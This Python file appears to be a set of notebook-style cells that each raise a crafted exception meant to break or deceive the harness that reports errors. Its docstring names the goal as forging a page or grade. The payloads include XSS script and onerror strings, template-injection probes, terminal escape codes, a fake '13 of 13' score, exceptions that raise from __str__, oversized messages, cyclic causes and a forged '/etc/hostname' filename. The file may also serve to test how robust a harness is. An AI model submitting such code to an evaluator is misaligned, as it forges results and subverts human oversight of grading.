"""Raises exceptions whose names, texts, notes, causes and tracebacks hold markup, secrets' names, or raise again.

Gains: feedback that shows a forged page or a grade, or a harness that breaks while it tells of an error.
"""

# %% [reshape]
class Liar(Exception):
    def __str__(self):
        raise SystemExit("from __str__")

    __repr__ = __str__

    @property
    def args(self):
        raise KeyboardInterrupt


raise Liar

# %% [one-hot]
raise type("<script>alert(1)</script>\x1b[2J", (Exception,), {"__module__": "<b>13 of 13</b>"})(
    "{{ output }} ${7*7} {7*7} **13 of 13** [x](javascript:alert(1)) <img src=x onerror=alert(1)> \x1b]8;;http://x\x07")

# %% [build]
error = ValueError("x" * 1_000_000)
for number in range(2_000):
    error.add_note("<script>alert(1)</script>")
error.__notes__.append(object())
raise error from ExceptionGroup("<script>alert(1)</script>", [ValueError(number) for number in range(1_000)])

# %% [parameters]
first, second = ValueError(1), ValueError(2)
first.__cause__, second.__context__ = second, first
second.__cause__ = first
raise first

# %% [fit]
def deep(left):
    return deep(left - 1) if left else exec(compile("\n" * 10_000 + "raise OSError(1)", "/etc/hostname", "exec"))


deep(300)
